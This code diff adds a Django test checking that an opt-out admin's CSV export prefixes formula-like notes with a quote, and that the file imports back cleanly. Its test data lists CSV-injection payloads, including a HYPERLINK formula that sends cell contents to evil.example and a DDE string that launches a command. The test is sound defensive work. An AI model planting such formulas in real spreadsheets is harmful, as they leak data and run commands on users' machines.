@@ -1006,6 +1006,49 @@ def test_the_admins_export_is_what_the_command_exports_and_imports(
     )
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_a_note_is_exported_so_no_spreadsheet_runs_it(admin_client: Client, tmp_path: Any) -> None:
+    """Review finding: a note was exported as written, and a spreadsheet opening the file
+    ran ``=HYPERLINK(...)`` (CSV injection). A note that starts like a formula is written
+    with a ``'`` before it (the number column is never touched); the command's export is
+    the admin's, and importing the file back gives the same numbers, with no ``'`` in
+    anything imported."""
+    numbers = [f"+1202555{n:04d}" for n in range(len(FORMULAS))]
+    for number, note in zip(numbers, FORMULAS, strict=True):
+        OptOut.objects.create(phone_number=number, source="admin", note=note)
+    plain = OptOut.objects.create(phone_number=NUMBER, source="admin", note="Called us; it's ok")
+    response = admin_client.post(
+        reverse(OPT_OUT_CHANGELIST),
+        {"action": "export_csv", "select_across": "1", "_selected_action": [plain.pk]},
+    )
+    text = b"".join(response.streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    assert [(row[0], row[3]) for row in rows] == [
+        *((number, "'" + note) for number, note in zip(numbers, FORMULAS, strict=True)),
+        (NUMBER, "Called us; it's ok"),
+    ]
+    out = io.StringIO()
+    call_command("textflow_optout", "export", stdout=out, stderr=io.StringIO())
+    assert out.getvalue().splitlines() == text.splitlines()
+
+    exported = tmp_path / "opt-outs.csv"
+    exported.write_text(text, encoding="utf-8")
+    OptOut.objects.all().delete()
+    call_command("textflow_optout", "import", str(exported), stdout=io.StringIO())
+    assert sorted(OptOut.objects.values_list("phone_number", "note")) == sorted(
+        (number, "") for number in [*numbers, NUMBER]
+    )
+
+
 def test_exporting_needs_only_the_view_permission(client: Client) -> None:
     OptOut.objects.create(phone_number=NUMBER, source="reply")
     viewer = get_user_model().objects.create_user("viewer", password="pw", is_staff=True)  # noqa: S106
